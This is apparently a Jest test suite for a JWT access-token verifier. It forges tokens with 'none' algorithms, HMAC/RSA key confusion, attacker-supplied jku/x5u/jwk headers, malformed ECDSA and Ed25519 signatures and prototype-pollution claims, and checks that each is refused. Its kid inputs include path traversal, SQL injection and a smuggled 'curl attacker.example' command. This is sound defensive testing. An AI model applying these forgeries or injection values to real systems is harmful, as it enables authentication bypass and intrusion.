import { generateKeyPairSync, sign } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';

import {
  AUDIENCE,
  CLAIMS,
  ec,
  ecdsa,
  ed,
  eddsa,
  forge,
  HEADER,
  hmac,
  ISSUER,
  outcomeOf,
  ps256,
  rs256,
  rsa,
  secret,
  segment,
  signature,
  token,
  verdict,
  verifierOf,
} from '../test/token-forge.js';
import type { Signer } from '../test/token-forge.js';

const attacker = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const p384 = generateKeyPairSync('ec', { namedCurve: 'P-384' });
const p521 = generateKeyPairSync('ec', { namedCurve: 'P-521' });
const jwkOf = (key: typeof ec.publicKey) => key.export({ format: 'jwk' });

const forged = (header: Record<string, unknown>, signer: Signer, claims: Record<string, unknown> = {}) =>
  forge({ typ: 'at+jwt', ...header }, { ...CLAIMS, ...claims }, signer);

describe('a good token', () => {
  it.each([
    ['HS256', { secret }, hmac(secret)],
    ['HS384', { secret, alg: 'HS384' as const }, hmac(secret, 'sha384')],
    ['HS512', { secret, alg: 'HS512' as const }, hmac(secret, 'sha512')],
    ['RS256', rsa.publicKey, rs256(rsa.privateKey)],
    ['PS256', { ...jwkOf(rsa.publicKey), alg: 'PS256' }, ps256(rsa.privateKey)],
    ['ES256', ec.publicKey, ecdsa(ec.privateKey)],
    ['ES384', p384.publicKey, ecdsa(p384.privateKey, 'sha384')],
    ['ES512', p521.publicKey, ecdsa(p521.privateKey, 'sha512')],
    ['EdDSA', ed.publicKey, eddsa(ed.privateKey)],
    ['Ed25519', ed.publicKey, eddsa(ed.privateKey)],
  ])('is verified: %s', async (alg, key, signer) => {
    expect(await verdict(forged({ alg }, signer), { keys: [key] })).toBe('verified');
    expect(
      await verdict(
        forged({ alg }, (input) => signer(`${input}x`)),
        { keys: [key] },
      ),
    ).toBe('signature-invalid');
  });

  it('is verified at once, but for Ed25519', () => {
    expect(verifierOf().verify(token())).not.toBeInstanceOf(Promise);
  });

  it('is verified by whichever of four keys signed it, when it names none', async () => {
    const others = [1, 2, 3].map(() => generateKeyPairSync('ec', { namedCurve: 'P-256' }).publicKey);
    expect(await verdict(token(), { keys: [...others, ec.publicKey] })).toBe('verified');
    const edwards = [1, 2].map(() => generateKeyPairSync('ed25519').publicKey);
    const raw = forged({ alg: 'EdDSA' }, eddsa(ed.privateKey));
    expect(await verdict(raw, { keys: [...edwards, ed.publicKey] })).toBe('verified');
    expect(await verdict(raw, { keys: edwards })).toBe('signature-invalid');
  });
});

describe('the algorithm', () => {
  it.each(['none', 'None', 'nOnE', 'NONE', ''])(
    '[R11] %j is refused, with and without a signature',
    async (alg) => {
      expect(await verdict(`${segment({ ...HEADER, alg })}.${segment(CLAIMS)}.`)).toBe('malformed');
      expect(await verdict(forged({ alg }, ecdsa(ec.privateKey)))).toBe('algorithm-refused');
    },
  );

  it.each([
    'es256',
    'Es256',
    'ES256 ',
    'ES256K',
    'ES384',
    'RS256',
    'HS256',
    'EdDSA',
    'dir',
    'constructor',
    '__proto__',
  ])('[R11] %j is not the issuer’s, although its key made the signature', async (alg) => {
    expect(await verdict(forged({ alg }, ecdsa(ec.privateKey)))).toBe('algorithm-refused');
  });

  it('[R11] is one that the issuer’s options allow', async () => {
    const raw = forged({ alg: 'PS256' }, ps256(rsa.privateKey));
    expect(await verdict(raw, { keys: [rsa.publicKey], algorithms: ['PS256'] })).toBe('verified');
    expect(await verdict(raw, { keys: [rsa.publicKey], algorithms: ['RS256'] })).toBe('algorithm-refused');
  });

  it('[R13] is the one of the key: a key for RS256 verifies no PS256', async () => {
    const other = generateKeyPairSync('rsa', { modulusLength: 2048 }).publicKey;
    const keys = [
      { ...jwkOf(rsa.publicKey), alg: 'RS256' },
      { ...jwkOf(other), alg: 'PS256' },
    ];
    expect(await verdict(forged({ alg: 'RS256' }, rs256(rsa.privateKey)), { keys })).toBe('verified');
    expect(await verdict(forged({ alg: 'PS256' }, ps256(rsa.privateKey)), { keys })).toBe(
      'signature-invalid',
    );
  });

  const publicForms: readonly (readonly [string, Buffer | string])[] = [
    ['its PEM', rsa.publicKey.export({ type: 'spki', format: 'pem' })],
    [
      'its PEM without the last line break',
      rsa.publicKey.export({ type: 'spki', format: 'pem' }).toString().trim(),
    ],
    ['its older PEM', rsa.publicKey.export({ type: 'pkcs1', format: 'pem' })],
    ['its DER', rsa.publicKey.export({ type: 'spki', format: 'der' })],
    ['its JWK', JSON.stringify(jwkOf(rsa.publicKey))],
    ['its modulus', Buffer.from(jwkOf(rsa.publicKey).n ?? '', 'base64url')],
    ['nothing', ''],
  ];

  it.each(publicForms)(
    '[R12] HS256 with the public key as its secret is refused: %s',
    async (_form, material) => {
      const raw = forged({ alg: 'HS256', kid: 'r1' }, hmac(material));
      const key = { ...jwkOf(rsa.publicKey), kid: 'r1' };
      expect(await verdict(raw, { keys: [key] })).toBe('algorithm-refused');
      // Where the issuer has a secret as well, it is the secret that counts.
      expect(await verdict(raw, { keys: [key, { secret, kid: 'h1' }] })).toBe('key-unknown');
      expect(await verdict(raw, { keys: [key, { secret }] })).toBe('signature-invalid');
    },
  );
});

describe('keys that a token brings along', () => {
  let requests: string[] = [];
  const server = createServer((request, response) => {
    requests.push(request.url ?? '');
    response
      .setHeader('content-type', 'application/json')
      .end(JSON.stringify({ keys: [jwkOf(attacker.publicKey)] }));
  });
  let origin = '';
  beforeAll(async () => {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => void server.close());

  it.each(['jwk', 'jku', 'x5u', 'x5c', 'all of them'])(
    '[R14] are no keys, and cause no request: %s',
    async (which) => {
      requests = [];
      const members: Record<string, unknown> = {
        jwk: jwkOf(attacker.publicKey),
        jku: `${origin}/jwks`,
        x5u: `${origin}/certificate`,
        x5c: [attacker.publicKey.export({ type: 'spki', format: 'der' }).toString('base64')],
      };
      const header = which in members ? { [which]: members[which] } : members;
      const raw = forged({ alg: 'ES256', kid: `${origin}/kid`, ...header }, ecdsa(attacker.privateKey));
      expect(await verdict(raw)).toBe('signature-invalid');
      expect(await verdict(raw, { keys: [{ ...jwkOf(ec.publicKey), kid: 'e1' }] })).toBe('key-unknown');
      // Whatever had been asked for before would have come in before this.
      await (await fetch(`${origin}/last`)).text();
      expect(requests).toEqual(['/last']);
    },
  );

  it('[R14] do no harm beside a signature of the issuer’s own', async () => {
    expect(await verdict(token({}, { jwk: jwkOf(attacker.publicKey) }))).toBe('verified');
  });
});

describe('the name of a key', () => {
  const keys = [{ ...jwkOf(ec.publicKey), kid: 'e1' }];

  it.each([
    ['unknown', 'e2'],
    ['empty', ''],
    ['a path', '../../../../etc/passwd'],
    ['an absolute path', '/dev/null'],
    ['SQL', "e1' OR '1'='1"],
    ['SQL with a union', "x' UNION SELECT 'key';--"],
    ['a command', 'e1|curl attacker.example'],
    ['ten kilobytes', 'k'.repeat(10 * 1024 - 500)],
    ['odd Unicode', 'e1\u202e\ud83d\ude00\u0000'],
    ['a look-alike', 'е1'],
    ['in another case', 'E1'],
    ['padded', ' e1'],
    ['__proto__', '__proto__'],
    ['constructor', 'constructor'],
    ['toString', 'toString'],
  ])('[R15] leads to no key by oddity: %s', async (_oddity, kid) => {
    expect(await verdict(token({}, { kid }), { keys })).toBe('key-unknown');
  });
});

describe('the type', () => {
  it.each(['at+jwt', 'AT+JWT', 'application/at+jwt', 'Application/At+Jwt'])(
    '[R21] of an access token is at+jwt: %s',
    async (typ) => {
      expect(await verdict(token({}, { typ }))).toBe('verified');
    },
  );

  it.each([
    ['an ID token', 'JWT'],
    ['a token without type', undefined],
    ['a logout token', 'logout+jwt'],
    ['a DPoP proof', 'dpop+jwt'],
    ['a status list', 'statuslist+jwt'],
    ['a security event', 'secevent+jwt'],
    ['a token of introspection', 'token-introspection+jwt'],
    ['a forwarded identity', 'latchkey-forwarded+jwt'],
    ['a text that holds it', 'x-at+jwt'],
    ['an empty text', ''],
  ])('[R21] of %s is refused in profile rfc9068', async (_what, typ) => {
    expect(await verdict(token({}, { typ }))).toBe('type-refused');
  });

  it('[R21] of an ID token is refused even where its audience is ours', async () => {
    const idToken = { aud: AUDIENCE, nonce: 'n', at_hash: 'AAAA', auth_time: CLAIMS.iat };
    expect(await verdict(token(idToken, { typ: 'JWT' }))).toBe('type-refused');
  });

  it('is JWT or absent in profile plain, and nothing else', async () => {
    const plain = { profile: 'plain' as const };
    expect(await verdict(token({}, { typ: 'JWT' }), plain)).toBe('verified');
    expect(await verdict(token({}, { typ: undefined }), plain)).toBe('verified');
    expect(await verdict(token({}, { typ: 'logout+jwt' }), plain)).toBe('type-refused');
    expect(await verdict(token({}, { typ: 'dpop+jwt' }), plain)).toBe('type-refused');
  });

  it('is the one that the issuer’s options name', async () => {
    const typed = { typ: 'application/acme+jwt' };
    expect(await verdict(token({}, { typ: 'ACME+jwt' }), typed)).toBe('verified');
    expect(await verdict(token({}, { typ: 'at+jwt' }), typed)).toBe('type-refused');
  });
});

describe('the issuer', () => {
  it.each([
    ['unknown', 'https://evil.example.com'],
    ['with a slash', `${ISSUER}/`],
    ['in another case', ISSUER.toUpperCase()],
    ['with ours as a prefix', `${ISSUER}.evil.example.com`],
    ['a list that holds ours', [ISSUER]],
    ['an object', { toString: ISSUER }],
    ['a number', 1],
    ['null', null],
    ['absent', undefined],
    ['__proto__', '__proto__'],
  ])('[R22] is compared exactly: %s', async (_what, iss) => {
    expect(await verdict(token({ iss }))).toBe('issuer-unknown');
  });

  it('[R22] is judged before its key is looked up: of an unknown one, no key is known or unknown', async () => {
    const keys = [{ ...jwkOf(ec.publicKey), kid: 'e1' }];
    expect(await verdict(token({ iss: 'https://evil.example.com' }, { kid: 'nope' }), { keys })).toBe(
      'issuer-unknown',
    );
    expect(await verdict(token({}, { kid: 'nope' }), { keys })).toBe('key-unknown');
  });

  it('[R23] has keys of its own: another trusted issuer’s key does not validate its tokens, with the same kid', async () => {
    const issuers = [
      { issuer: 'https://a.example.com', keys: [{ ...jwkOf(ec.publicKey), kid: 'k1' }] },
      { issuer: 'https://b.example.com', keys: [{ ...jwkOf(attacker.publicKey), kid: 'k1' }] },
    ];
    const signed = (iss: string, key: typeof ec.privateKey) =>
      forge({ ...HEADER, kid: 'k1' }, { ...CLAIMS, iss }, ecdsa(key));
    expect(await verdict(signed('https://a.example.com', ec.privateKey), ...issuers)).toBe('verified');
    expect(await verdict(signed('https://b.example.com', attacker.privateKey), ...issuers)).toBe('verified');
    expect(await verdict(signed('https://b.example.com', ec.privateKey), ...issuers)).toBe(
      'signature-invalid',
    );
    expect(await verdict(signed('https://a.example.com', attacker.privateKey), ...issuers)).toBe(
      'signature-invalid',
    );
  });

  it('[R23] has an audience and algorithms of its own, too', async () => {
    const issuers = [
      { issuer: 'https://a.example.com', audience: 'a' },
      { issuer: 'https://b.example.com', audience: 'b', keys: [{ secret }] },
    ];
    expect(await verdict(token({ iss: 'https://a.example.com', aud: 'b' }), ...issuers)).toBe(
      'audience-mismatch',
    );
    expect(
      await verdict(
        forged({ alg: 'HS256' }, hmac(secret), { iss: 'https://a.example.com', aud: 'a' }),
        ...issuers,
      ),
    ).toBe('algorithm-refused');
  });
});

describe('a signature', () => {
  const ORDER = Buffer.from('ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551', 'hex');
  const ZERO = Buffer.alloc(32);
  const ONE = Buffer.concat([Buffer.alloc(31), Buffer.from([1])]);

  it.each([
    ['r and s zero', ZERO, ZERO],
    ['r zero', ZERO, ONE],
    ['s zero', ONE, ZERO],
    ['r the order', ORDER, ONE],
    ['s the order', ONE, ORDER],
    ['both the order', ORDER, ORDER],
    ['both beyond the field', Buffer.alloc(32, 255), Buffer.alloc(32, 255)],
    ['both one', ONE, ONE],
  ])('of ECDSA does not hold with %s', async (_what, r, s) => {
    expect(await verdict(forged({ alg: 'ES256' }, signature(Buffer.concat([r, s]))))).toBe(
      'signature-invalid',
    );
  });

  it('of ECDSA is r and s, and neither DER nor of another length', async () => {
    expect(
      await verdict(forged({ alg: 'ES256' }, (input) => sign('sha256', Buffer.from(input), ec.privateKey))),
    ).toBe('signature-invalid');
    const signer = ecdsa(ec.privateKey);
    for (const change of [
      (bytes: Buffer) => bytes.subarray(1),
      (bytes: Buffer) => Buffer.concat([bytes, ZERO]),
    ]) {
      expect(await verdict(forged({ alg: 'ES256' }, (input) => change(Buffer.from(signer(input)))))).toBe(
        'signature-invalid',
      );
    }
  });

  it('of Ed25519 does not hold with the group’s order added to its scalar', async () => {
    const L = 2n ** 252n + 27742317777372353535851937790883648493n;
    const signer = eddsa(ed.privateKey);
    const raised: Signer = (input) => {
      const bytes = Buffer.from(signer(input));
      const scalar = BigInt(`0x${Buffer.from(bytes.subarray(32)).reverse().toString('hex')}`) + L;
      const hex = scalar.toString(16).padStart(64, '0');
      return Buffer.concat([bytes.subarray(0, 32), Buffer.from(hex, 'hex').reverse()]);
    };
    expect(await verdict(forged({ alg: 'EdDSA' }, raised), { keys: [ed.publicKey] })).toBe(
      'signature-invalid',
    );
  });

  it('covers header and claims: those of another good token don’t fit', async () => {
    const [header, claims, own] = token().split('.');
    const [otherHeader, otherClaims, other] = token({ sub: 'user-2' }, { kid: 'x' }).split('.');
    for (const raw of [
      `${header}.${claims}.${other}`,
      `${header}.${otherClaims}.${own}`,
      `${otherHeader}.${claims}.${own}`,
    ]) {
      expect(await verdict(raw)).toBe('signature-invalid');
    }
  });
});

describe('a refusal', () => {
  it('names the token’s id only when its signature holds', async () => {
    expect(await verifierOf().verify(token({ aud: 'x' }))).toMatchObject({ credentialId: 'token-1' });
    expect(await verifierOf().verify(token({ iss: 'x' }))).toMatchObject({ credentialId: undefined });
    const [header, claims] = token().split('.');
    expect(await verifierOf().verify(`${header}.${claims}.AAAA`)).toMatchObject({
      reason: 'signature-invalid',
      credentialId: undefined,
    });
  });
});

describe('the names of claims', () => {
  it('[R28] reach no prototype, and inherit nothing: __proto__ brings no claims along', async () => {
    const claims = `${JSON.stringify(CLAIMS).slice(0, -1)},"__proto__":{"exp":99999999999,"aud":"${AUDIENCE}"},"constructor":{}}`;
    const verification = await verifierOf().verify(forge(HEADER, claims, ecdsa(ec.privateKey)));
    expect(outcomeOf(verification)).toBe('verified');
    expect(Reflect.get({}, 'exp')).toBeUndefined();
    const { aud, ...others } = CLAIMS;
    const inherited = `${JSON.stringify(others).slice(0, -1)},"__proto__":{"aud":"${aud}"}}`;
    expect(await verdict(forge(HEADER, inherited, ecdsa(ec.privateKey)))).toBe('claim-missing');
  });
});
